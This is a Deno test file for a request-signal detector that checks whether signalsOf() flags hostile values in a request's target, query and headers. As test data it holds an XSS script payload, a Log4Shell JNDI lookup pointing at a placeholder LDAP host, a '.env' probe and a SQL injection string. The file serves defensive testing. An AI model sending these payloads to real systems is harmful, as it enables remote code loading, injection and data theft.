import { assertEquals } from "@std/assert";
import { signalNames } from "../../lib/signals/signal.ts";
import { signalsOf } from "../../lib/signals/signals.ts";

const seen = (target: string, headers: [string, string][] = []) =>
  signalNames(signalsOf({ method: "GET", target, headers }));

Deno.test("signalsOf() sees the whole request: target, query and every field", () => {
  assertEquals(seen("/"), []);
  assertEquals(seen("/?q=<script>alert(1)</script>"), ["xss"]);
  const naming = "${jndi:ldap://203.0.113.5/a}";
  assertEquals(seen("/", [["x-api-version", naming]]).includes("jndi"), true);
  assertEquals(seen("/.env"), ["probe"]);
});

Deno.test("signalsOf() reads fields in any of their shapes", () => {
  const value = "' or 1=1--";
  for (
    const headers of [
      new Headers({ "x-a": value }),
      [["x-a", value]] as const,
      ["x-a", value],
      new Map([["x-a", value]]),
    ]
  ) {
    const mask = signalsOf({ method: "GET", target: "/", headers });
    assertEquals(signalNames(mask), ["sqli"]);
  }
});
